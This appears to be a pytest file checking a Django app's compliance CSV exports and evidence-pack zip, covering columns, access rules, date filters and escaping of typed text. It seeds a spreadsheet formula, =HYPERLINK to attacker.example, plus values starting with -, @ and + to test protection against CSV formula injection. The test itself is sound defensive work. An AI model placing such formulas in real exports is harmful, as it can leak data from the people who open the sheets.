"""The records NHIP-01, 03, 10, 11 and 12 rest on, as CSV for compliance staff and in the
evidence pack: leak reports, task approvals, ownership claims and attestation reviews."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.utils import timezone

from inventory.attestation_reviews import attestation_reject
from inventory.claims import claim_create
from inventory.services import identity_attest
from tests.tokens.conftest import token_request
from tokens.approvals import task_approve, task_reject
from tokens.exposures import exposure_confirm, exposure_report_credential
from tokens.models import Exposure, Task

URLS = {
    "exposures": "/compliance/exposures.csv",
    "task-approvals": "/compliance/task-approvals.csv",
    "ownership-claims": "/compliance/ownership-claims.csv",
    "attestation-reviews": "/compliance/attestation-reviews.csv",
}
FORMULA = '=HYPERLINK("https://attacker.example/?leak")'


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def records(make_agent, make_identity, crm, grant, oauth, alice, bob, rita, sam):
    """One of each record, decided by a second person, with text a spreadsheet would run."""
    leaked = make_agent(name="leaky-bot")
    credential = leaked.identity.credentials.get()
    exposure = exposure_report_credential(actor=alice, credential=credential, where_found=FORMULA)
    exposure_confirm(actor=sam, exposure=exposure, reason="Key found in a public gist")

    autonomous = make_agent(name="export-bot", autonomy="autonomous")
    grant(autonomous, crm, ["tickets:read", "customers:export"])
    approved = Task.objects.get(pk=token_request(oauth, autonomous, scope="customers:export").json()["task_id"])
    task_approve(actor=rita, task=approved, minutes=10, reason="Quarter-end export, ticket OPS-12")
    refused = Task.objects.get(pk=token_request(oauth, autonomous, scope="customers:export").json()["task_id"])
    task_reject(actor=rita, task=refused, reason="-no ticket for this export")

    attested = make_agent(name="attested-bot").identity
    attestation = identity_attest(actor=alice, identity=attested, note="@still needed")
    attestation_reject(actor=rita, attestation=attestation, reason="Scope is wider than the purpose")

    orphan = make_identity(alice, name="orphan-bot")
    alice.is_active = False
    alice.save(update_fields=["is_active"])
    claim = claim_create(actor=bob, identity=orphan, reason="+I run the billing team now")
    return {"exposure": exposure, "approved": approved, "refused": refused, "attestation": attestation, "claim": claim}


def test_compliance_staff_download_each_record_with_who_decided_and_why(client_for, carol, records):
    client = client_for(carol)

    [exposure] = rows_of(client.get(URLS["exposures"]))
    assert (exposure["identity"], exposure["kind"], exposure["status"], exposure["confirmed_by"]) == ("leaky-bot", "credential", "confirmed", "sam")
    assert exposure["confirm_reason"] == "Key found in a public gist" and exposure["was_live"] == "yes"

    approvals = rows_of(client.get(URLS["task-approvals"]))
    by_task = {row["task_id"]: row for row in approvals}
    approved, refused = by_task[str(records["approved"].pk)], by_task[str(records["refused"].pk)]
    assert (approved["identity"], approved["scopes"], approved["state"], approved["approved_by"]) == ("export-bot", "customers:export", "approved", "rita")
    assert approved["approval_reason"] == "Quarter-end export, ticket OPS-12" and approved["approver_was_owner"] == "no"
    assert (refused["state"], refused["ended_by"], refused["approved_by"], refused["approver_was_owner"]) == ("rejected", "rita", "", "")

    [attestation] = rows_of(client.get(URLS["attestation-reviews"]))
    assert (attestation["identity"], attestation["attested_by"], attestation["review"], attestation["reviewed_by"]) == ("attested-bot", "alice", "rejected", "rita")
    assert attestation["review_reason"] == "Scope is wider than the purpose"

    [claim] = rows_of(client.get(URLS["ownership-claims"]))
    assert (claim["identity"], claim["claimant"], claim["state"], claim["decided_by"]) == ("orphan-bot", "bob", "pending", "")


def test_text_people_typed_cannot_run_as_a_formula_in_the_auditors_sheet(client_for, carol, records):
    client = client_for(carol)
    assert rows_of(client.get(URLS["exposures"]))[0]["where_found"] == "'" + FORMULA
    assert {row["end_reason"] for row in rows_of(client.get(URLS["task-approvals"]))} >= {"Approval refused: -no ticket for this export"}
    assert rows_of(client.get(URLS["attestation-reviews"]))[0]["note"] == "'@still needed"
    assert rows_of(client.get(URLS["ownership-claims"]))[0]["reason"] == "'+I run the billing team now"


@pytest.mark.parametrize("record", URLS)
def test_owners_and_outsiders_get_403_and_visitors_are_sent_to_sign_in(client_for, alice, charlie, client, record):
    for person in (alice, charlie):
        assert client_for(person).get(URLS[record]).status_code == 403
    assert client.get(URLS[record]).status_code == 302


def test_since_leaves_out_older_records_and_a_since_that_is_no_day_is_400(client_for, sam, records):
    Exposure.objects.filter(pk=records["exposure"].pk).update(contained_at=timezone.now() - timedelta(days=10))
    client = client_for(sam)
    since = (timezone.localdate() - timedelta(days=5)).isoformat()
    assert rows_of(client.get(URLS["exposures"], {"since": since})) == []
    assert len(rows_of(client.get(URLS["task-approvals"], {"since": since}))) == 2
    response = client.get(URLS["exposures"], {"since": "last tuesday"})
    assert response.status_code == 400 and b"Enter a valid date." in response.content


def test_the_evidence_pack_holds_the_four_records_and_its_readme_lists_them(client_for, carol, records):
    response = client_for(carol).get("/compliance/evidence-pack.zip")
    assert response.status_code == 200
    pack = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    readme = pack.read("README.txt").decode()
    for name in ("exposures.csv", "task-approvals.csv", "ownership-claims.csv", "attestation-reviews.csv"):
        assert name in pack.namelist() and f"  {name}  (" in readme
    assert "leak reports, task approvals, ownership claims, attestations" in readme
    assert [row["identity"] for row in csv.DictReader(io.StringIO(pack.read("exposures.csv").decode()))] == ["leaky-bot"]
    assert len(list(csv.DictReader(io.StringIO(pack.read("task-approvals.csv").decode())))) == 2
    assert "orphan-bot" in pack.read("ownership-claims.csv").decode()
    assert "Scope is wider than the purpose" in pack.read("attestation-reviews.csv").decode()
